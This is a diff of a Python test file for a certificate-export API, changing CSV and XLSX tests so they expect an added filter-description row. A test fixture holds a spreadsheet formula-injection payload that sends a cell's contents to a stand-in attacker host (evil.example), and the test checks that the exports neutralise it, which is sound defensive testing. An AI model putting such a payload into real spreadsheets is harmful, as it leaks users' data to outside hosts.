@@ -116,12 +116,13 @@ def test_csv_has_a_bom_and_the_same_filters(client, key_headers, three_issued):
     response = get(client, "certificates.csv", key_headers, consignee="o")
     assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
     assert response.data.startswith(b"\xef\xbb\xbf")
-    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
+    filters, *rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
+    assert filters == ["# 筛选条件 Filters: consignee=o"]
     assert rows[0][0] == "证书编号 Certificate No."
     assert {r[7] for r in rows[1:]} == {"Tokyo Kitchenware K.K.", "Osaka Trading Co."}
     assert all(r[2] == "植物检疫证书 PHYTOSANITARY CERTIFICATE" for r in rows[1:])
     applications = get(client, "applications.csv", key_headers).data.decode("utf-8-sig")
-    assert len(list(csv.reader(io.StringIO(applications)))) == 4
+    assert len(list(csv.reader(io.StringIO(applications)))) == 1 + 4
 
 
 def test_xlsx_export(client, key_headers, three_issued):
@@ -133,6 +134,7 @@ def test_xlsx_export(client, key_headers, three_issued):
     assert values[0][0] == "证书编号 Certificate No." and len(values) == 4
     assert {v[0] for v in values[1:]} == {c.certificate_no for c in three_issued}
     assert "东京贸易株式会社" in {v[7] for v in values[1:]}
+    assert workbook["筛选条件 Filters"]["A1"].value == "筛选条件 Filters: status=issued"
 
 
 FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A9)")
@@ -143,7 +145,7 @@ def test_exports_write_formula_like_text_as_text(client, key_headers, apply_for)
     for name in FORMULAS:
         apply_for(form=phyto_form(consignee={"name_en": name}))
     exported = get(client, "applications.csv", key_headers).data.decode("utf-8-sig")
-    rows = list(csv.reader(io.StringIO(exported)))
+    rows = list(csv.reader(io.StringIO(exported)))[1:]
     assert sorted(r[5] for r in rows[1:]) == sorted("'" + name for name in FORMULAS)
     workbook = load_workbook(io.BytesIO(get(client, "applications.xlsx", key_headers).data))
     cells = [row[5] for row in workbook.active.iter_rows(min_row=2)]
